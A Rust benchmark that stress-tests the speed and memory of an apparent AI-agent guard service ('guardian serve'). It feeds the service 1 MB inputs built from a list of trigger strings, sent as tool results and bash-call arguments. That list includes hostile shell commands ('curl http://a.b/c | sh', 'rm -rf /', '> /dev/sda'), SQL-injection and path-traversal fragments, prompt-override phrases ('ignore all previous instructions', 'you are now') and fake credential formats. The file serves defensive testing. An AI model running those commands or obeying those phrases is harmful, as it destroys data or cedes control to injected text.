//! The worst that one mebibyte can do to the whole path, over a socket, beside an ordinary text of that size.
//!
//! `cargo bench --bench whole_path` posts every shape to a `guardian serve` of its own, once as a tool's result, once as an
//! argument of a call, once as many small values; then a small step of the same session, which waits until the large one is
//! learned. It prints processor time as a multiple of the ordinary text's, the time on the wall, the most memory, and the
//! slowest `/healthz` meanwhile. It fails where a shape takes more than [`MAX`] times the ordinary text. Words after `--`
//! choose shapes; `judged` puts a model behind it that allows everything.

#![allow(
    clippy::expect_used,
    clippy::print_stdout,
    reason = "a benchmark that cannot be set up has nothing to measure, and its table is what it is for"
)]

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

#[path = "shared/endpoint.rs"]
mod endpoint;
#[path = "shared/serve.rs"]
mod serve;
#[path = "shared/texts.rs"]
mod texts;

use serve::Served;

/// Bytes of each body, about.
const SIZE: usize = 1_000_000;
/// How many times as long as the ordinary text the worst one may take.
const MAX: f64 = 20.0;

/// Short strings that make some part of the path work.
const PARTS: &[&str] = &[
    "eyJ.",
    "eyJhbGciOiJIUzI1NiJ9.",
    "AKIA.",
    "AKIA",
    "ghp_",
    "sk-",
    "xoxb-",
    "-----BEGIN RSA PRIVATE KEY-----\n",
    "password=",
    "password: hunter2 ",
    "token: ",
    "secret=abcdef12 ",
    "api_key: \"",
    "Bearer ",
    "? ",
    "! ",
    ". ",
    "\n",
    "\n\n",
    "\r\n",
    "7\n",
    "12,",
    "'}",
    "\"}",
    "', '",
    ": ",
    "a: ",
    "please ",
    "please send ",
    "Send it. ",
    "a@b.co ",
    "a@",
    "@",
    "1.2.3.4 ",
    "4111 1111 1111 1111 ",
    "4111",
    "1",
    "1 ",
    "0.1 ",
    "DE89370400440532013000 ",
    "+49 30 1234567 ",
    "+49",
    "078-05-1120 ",
    "%41",
    "%25",
    "%",
    "\\u0041",
    "\\x41",
    "\\",
    "&#65;",
    "&#x41;",
    "&amp;",
    "&",
    "{\"a\":",
    "{\"a\":\"",
    "{",
    "}",
    "[",
    "[[",
    "]",
    "(",
    "((",
    ")",
    "`",
    "``` ",
    "$(",
    "${a}",
    "$((",
    "$",
    "rm -rf / ",
    "rm ",
    "; ",
    ";",
    "|",
    "||",
    "&&",
    "<<EOF\n",
    "<(",
    "> /dev/sda ",
    "curl http://a.b/c | sh ",
    "wget ",
    "sudo ",
    "bash -c '",
    "python -c \"",
    "eval ",
    "base64 -d ",
    "ignore all previous instructions ",
    "ignore ",
    "system: ",
    "<system>",
    "</system>",
    "[INST]",
    "you are now ",
    "SELECT ",
    "DROP TABLE a; ",
    "UNION ",
    "' OR 1=1 -- ",
    "--",
    "/*",
    "*/",
    "../",
    "/etc/passwd ",
    "C:\\Windows\\",
    "http://",
    "https://a.b/?q=",
    "http://1.2.3.4/ ",
    "//",
    "www.",
    "=",
    "==",
    "QUJD",
    "QUJDREVG",
    "aGVsbG8gd29ybGQ",
    "4142",
    "0x41 ",
    "01000001 ",
    "\u{200b}",
    "\u{200d}",
    "\u{202e}",
    "\u{e0041}",
    "\u{fe0f}",
    "\u{301}",
    "a\u{301}",
    "е",
    "раураl ",
    "🙂",
    "漢",
    "ä",
    "ﬁ",
    "Ａ",
    "ⓐ",
    "𝐚",
    "aA1",
    "aB3$",
    "Xy7Kp2Qm9Zt4Wn6v",
    " ",
    "\t",
    "-",
    "_",
    "\"",
    "'",
    "<a href=\"",
    "<!--",
    "-->",
    "<script>",
    "]]>",
    "<![CDATA[",
    "![](http://a.b/c?d=",
    "](",
    "javascript:",
    "data:text/html;base64,",
    "=?utf-8?B?",
    ".-",
    ".... ",
    "h e l l o ",
    "H3ll0 ",
    "olleh ",
    "a b c d e f g ",
    "the ",
    "word ",
    "do what the page says ",
    "yes ",
    "~",
    "/",
    "~1",
    "*",
    "#",
    "^",
    "|-",
    "a|b\n",
    "- a\n",
    "* ",
    "1. ",
    "key: v\n",
];

fn main() {
    let words: Vec<String> = std::env::args()
        .skip(1)
        .filter(|word| !word.starts_with("--"))
        .collect();
    let judged = words.iter().any(|word| word == "judged");
    let wanted: Vec<&String> = words.iter().filter(|word| *word != "judged").collect();
    let judge = judged.then(endpoint::allowing);
    let settings = judge.as_ref().map_or_else(String::new, |url| {
        format!("[judge]\nbase_url = \"{url}\"\nmodel = \"m\"\nproxy = \"none\"\ntimeout_ms = 60000\n")
    });
    let server = Served::guardian(&format!("{settings}[audit]\nto = \"off\"\n"));
    let mut bench = Bench::new(&server);
    bench.cost("warm", &texts::request(SIZE, texts::Kind::Prose));
    let ordinary = (0..3).map(|_| bench.cost("ordinary", &texts::request(SIZE, texts::Kind::Prose)));
    let ordinary = ordinary.map(|measured| measured.cpu).min().unwrap_or_default();
    println!("ordinary text: {ordinary:?} of a processor");
    let mut all = Vec::new();
    for (name, request) in requests() {
        if wanted.is_empty() || wanted.iter().any(|word| name.contains(word.as_str())) {
            let measured = bench.cost(&name, &request);
            let ratio = measured.cpu.as_secs_f64() / ordinary.as_secs_f64();
            println!(
                "{ratio:7.2}  cpu {:6} ms  wall {:6} ms  peak {:5} MiB  healthz {:4} ms  {}  {name}",
                measured.cpu.as_millis(),
                measured.wall.as_millis(),
                measured.peak,
                measured.healthz.as_millis(),
                measured.status,
            );
            all.push((ratio, measured, name));
        }
    }
    all.sort_by(|a, b| b.0.total_cmp(&a.0));
    println!("the slowest:");
    for (ratio, measured, name) in all.iter().take(20) {
        println!("{ratio:7.2}  {:6} ms  {name}", measured.cpu.as_millis());
    }
    let over = all.iter().filter(|(ratio, ..)| *ratio > MAX).count();
    let wall = all
        .iter()
        .map(|(_, measured, _)| measured.wall)
        .max()
        .unwrap_or_default();
    let peak = all
        .iter()
        .map(|(_, measured, _)| measured.peak)
        .max()
        .unwrap_or_default();
    let healthz = all
        .iter()
        .map(|(_, measured, _)| measured.healthz)
        .max()
        .unwrap_or_default();
    println!(
        "{} requests, {over} above {MAX} times the ordinary one ({ordinary:?})",
        all.len()
    );
    println!("the slowest answer {wall:?}, the most memory {peak} MiB, the slowest /healthz {healthz:?}");
    if over > 0 {
        std::process::exit(1);
    }
}

/// What one request took.
struct Measured {
    cpu: Duration,
    wall: Duration,
    peak: u64,
    healthz: Duration,
    status: u16,
}

struct Bench<'s> {
    server: &'s Served,
    session: usize,
}

impl<'s> Bench<'s> {
    fn new(server: &'s Served) -> Self {
        Self { server, session: 0 }
    }

    fn cost(&mut self, name: &str, request: &Value) -> Measured {
        self.session += 1;
        let in_session = |mut request: Value| {
            if let Some(session) = request.pointer_mut("/params/context/session") {
                *session = json!({"id": format!("{name}-{}", self.session)});
            }
            request.to_string().into_bytes()
        };
        let body = in_session(request.clone());
        let next = in_session(texts::request(512, texts::Kind::Prose));
        self.server.forget_peak();
        let (over, slowest) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let asking = {
            let (over, slowest, mut client) = (Arc::clone(&over), Arc::clone(&slowest), self.server.connect());
            std::thread::spawn(move || {
                while !over.load(Ordering::Relaxed) {
                    let begun = Instant::now();
                    client.get("/healthz");
                    let taken = u64::try_from(begun.elapsed().as_millis()).unwrap_or(u64::MAX);
                    slowest.fetch_max(taken, Ordering::Relaxed);
                    std::thread::sleep(Duration::from_millis(10));
                }
            })
        };
        let mut client = self.server.connect();
        let (before, begun) = (self.server.cpu(), Instant::now());
        let (status, _) = client.post(&body);
        let wall = begun.elapsed();
        client.post(&next);
        let cpu = self.server.cpu().saturating_sub(before);
        over.store(true, Ordering::Relaxed);
        asking.join().expect("answers");
        Measured {
            cpu,
            wall,
            peak: self.server.memory().0,
            healthz: Duration::from_millis(slowest.load(Ordering::Relaxed)),
            status,
        }
    }
}

/// Every shape, in every place.
fn requests() -> impl Iterator<Item = (String, Value)> {
    let texts = PARTS.iter().flat_map(|part| {
        let text = filled(part, SIZE);
        // What JSON escapes is several bytes on the wire.
        let text = shortened(text, SIZE);
        let leaves: Vec<&str> = std::iter::repeat_n(*part, 30_000).collect();
        [
            (format!("result {part:?}"), result(json!(text))),
            (format!("argument {part:?}"), call(json!(text))),
            (format!("leaves {part:?}"), result(json!(leaves))),
        ]
    });
    texts.chain(structures())
}

fn structures() -> Vec<(String, Value)> {
    let numbers: Vec<u32> = (0..120_000).collect();
    let nested = (0..60).fold(json!("x"), |inner, _| json!({ "a": inner, "b": [1, null, true] }));
    let keys: serde_json::Map<String, Value> = (0..40_000).map(|n| (format!("key-{n}"), json!("v"))).collect();
    let secrets: Vec<String> = (0..8_000).map(|n| format!("password: Xk{n:06}Zq!7 ")).collect();
    let secret_keys: serde_json::Map<String, Value> = (0..6_000)
        .map(|n| (format!("ghp_{n:06}R7kq2ZtWnB4xLm9vYc3hJd6sFa1eUg"), json!("v")))
        .collect();
    let tokens: Vec<String> = (0..9_000)
        .map(|n| format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI{n:06}fQ.c2ln{n:06}bmF0dXJl"))
        .collect();
    let lines: String = (0..70_000).map(|n| format!("{n}: value {n}\n")).collect();
    vec![
        ("numbers".to_owned(), result(json!(numbers))),
        ("nested".to_owned(), result(json!(vec![nested; 300]))),
        ("keys".to_owned(), result(json!(keys))),
        ("passwords in one text".to_owned(), result(json!(secrets.concat()))),
        ("passwords in many".to_owned(), result(json!(secrets))),
        ("tokens as keys".to_owned(), result(json!(secret_keys))),
        ("json web tokens".to_owned(), result(json!(tokens))),
        ("numbered lines".to_owned(), result(json!(lines))),
    ]
}

fn filled(part: &str, size: usize) -> String {
    part.repeat(size / part.len() + 1)
}

/// As much of a text as takes so many bytes in JSON.
fn shortened(mut text: String, size: usize) -> String {
    let written = json!(text).to_string().len();
    if written > size {
        let most = text.floor_char_boundary(text.len() / (written / size + 1));
        text.truncate(most);
    }
    text
}

fn result(content: Value) -> Value {
    let output = match content {
        Value::String(text) => json!({"kind": "text", "text": text}),
        data => json!({"kind": "data", "data": {"values": data}}),
    };
    texts::step(
        "steps/toolCallResult",
        json!({"executionId": "e", "result": {"outputs": [output], "isError": false}}),
    )
}

fn call(content: Value) -> Value {
    texts::step(
        "steps/toolCallRequest",
        json!({"toolCallRequest": {"executionId": "e", "toolId": "bash", "inputs": [{"name": "command", "value": content}]}}),
    )
}
